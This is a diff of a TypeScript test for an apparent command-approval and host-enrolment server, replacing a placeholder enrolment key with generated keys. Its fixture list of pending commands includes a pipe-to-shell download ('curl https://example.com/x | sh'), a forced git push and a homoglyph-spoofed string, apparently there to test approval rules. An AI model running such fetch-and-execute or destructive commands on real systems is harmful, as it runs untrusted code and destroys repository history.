@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { setQuorum } from '../../src/server/identity/people-administration.ts';
 import type { EventReader } from '../component/event-reader.ts';
 import { connectHost, listOf, SESSION, screenOf } from '../component/running-host.ts';
-import type { Person } from '../component/server-fixture.ts';
+import { newKey, type Person } from '../component/server-fixture.ts';
 import { pendingLine } from '../component/server-lines.ts';
 import { allRules } from '../core/rule-effects.ts';
 import {
@@ -89,12 +89,9 @@ async function fill(
   ];
   for (const text of ['uptime', 'curl https://example.com/x | sh', 'git push --force', 'printf %s "\u0430pple"'])
     waiting.push((await server.pending(agent, text)).id);
-  await server.call(
-    'POST',
-    '/v1/enrolments',
-    {},
-    { name: 'new-box', host: 'new-box', user: 'me', publicKey: 'A'.repeat(43) },
-  );
+  const box = { name: 'new-box', host: 'new-box', user: 'me' };
+  await server.enrolling({ ...box, publicKey: newKey().publicKey });
+  await server.asksForEnrolment({ ...box, publicKey: newKey().publicKey });
   const paused = await server.requester('noisy');
   await server.call('POST', `/v1/requesters/${paused.id}/pause`, owner, {});
   await server.call('POST', `/v1/requesters/${paused.id}/rotate`, owner, {});
